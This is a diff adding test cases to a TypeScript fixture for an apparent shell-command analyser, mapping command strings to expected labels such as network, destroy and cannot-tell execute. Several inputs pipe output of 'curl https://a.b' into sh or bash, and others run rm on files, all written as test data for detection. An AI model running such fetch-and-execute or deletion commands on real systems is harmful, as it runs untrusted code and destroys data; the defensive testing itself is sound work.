@@ -1241,5 +1241,61 @@ export const told: { readonly [about: string]: { readonly [line: string]: readon
     'hash a-p; ls': ['hash a-p', 'ls'],
     'set -- [a"b"]; rm $1': ['set -- ‘[ab]’', 'rm ? | destroy cannot-tell | rm deletes files'],
     'set -- [a; rm $1': ['set -- ‘[a’', 'rm ‘[a’ | destroy | destroy /work/[a'],
+    'rm {1..02}': ['rm 01 02 | destroy | destroy /work/01, destroy /work/02'],
+    'curl https://a.b | { cat | sh; }': [
+      'curl https://a.b | network | @a.b',
+      'cat | from curl',
+      'sh | cannot-tell execute | from curl | what sh runs can’t be told',
+    ],
+    "curl https://a.b | bash -c 'cat | sh'": [
+      'curl https://a.b | network | @a.b',
+      'bash -c ‘cat | sh’ | from curl',
+      'cat | in bash -c | from curl',
+      'sh | cannot-tell execute | in bash -c | from curl | what sh runs can’t be told',
+    ],
+    'f() { cat | sh; }; curl https://a.b | f': [
+      'curl https://a.b | network | @a.b',
+      'cat | in function f | from curl',
+      'sh | cannot-tell execute | in function f | from curl | what sh runs can’t be told',
+    ],
+    'command command command command command command command command command command command command ls': [
+      'ls | in command > command > command > command > command > command > command > command > command > command > command > command',
+    ],
+    'command command command command command command command command command command command command command ls': [
+      'unclear: more than 12 commands lie in one another',
+    ],
+    'export XY': ['export XY'],
+    "declare -a X=' (1)'": ["declare -a ‘X= (1)’ | cannot-tell | declare X=' (1)' changes what names mean"],
+    'ls | sh -c "$(curl https://a.b)"': [
+      'ls',
+      'curl https://a.b | network | @a.b | in $(...)',
+      'sh -c ? | cannot-tell | from ls | what sh -c runs can’t be told',
+    ],
+    'a[1]=b env': ['unclear: it can’t be read as a shell command: 1:1: inline variables cannot be arrays'],
+    'if ls; then pushd sub; fi; popd; rm a': [
+      'ls',
+      'pushd sub',
+      'popd',
+      'rm a | destroy cannot-tell | rm deletes files',
+    ],
+    "sh <<< 'rm a' > out": ['sh | write | write /work/out', 'rm a | destroy | destroy /work/a | in sh'],
+    "{ ls && echo 'rm a'; } | sh": ['ls', 'echo ‘rm a’', 'sh | cannot-tell execute | what sh runs can’t be told'],
+    'mapfile $X; ls': [
+      'mapfile ? | cannot-tell | $X could be an option of mapfile',
+      'ls | cannot-tell | it runs code for each line',
+    ],
+    'set -- a b; rm "$@"x': ['set -- a b', 'rm ? | destroy cannot-tell | rm deletes files'],
+    'set -- b; rm $a1': ['set -- b', 'rm ? | destroy cannot-tell | rm deletes files'],
+    'cd -LP sub; rm a': ['cd -LP sub', 'rm a | destroy | destroy /work/sub/a'],
+    'cd a* && rm b': ['cd ‘a*’', 'rm b | destroy cannot-tell | rm deletes files'],
+    'X=ls; read Y -n X; $X': [
+      'read Y -n X',
+      'read Y -n X | cannot-tell | it sets a variable that can’t be told',
+      'ls | cannot-tell | it sets a variable that can’t be told',
+    ],
+    'X=ls; read -p $Y X; $X': [
+      'read -p ? X | cannot-tell | what read sets with $Y can’t be told',
+      '? | cannot-tell | which program $X is can’t be told',
+    ],
   },
 };
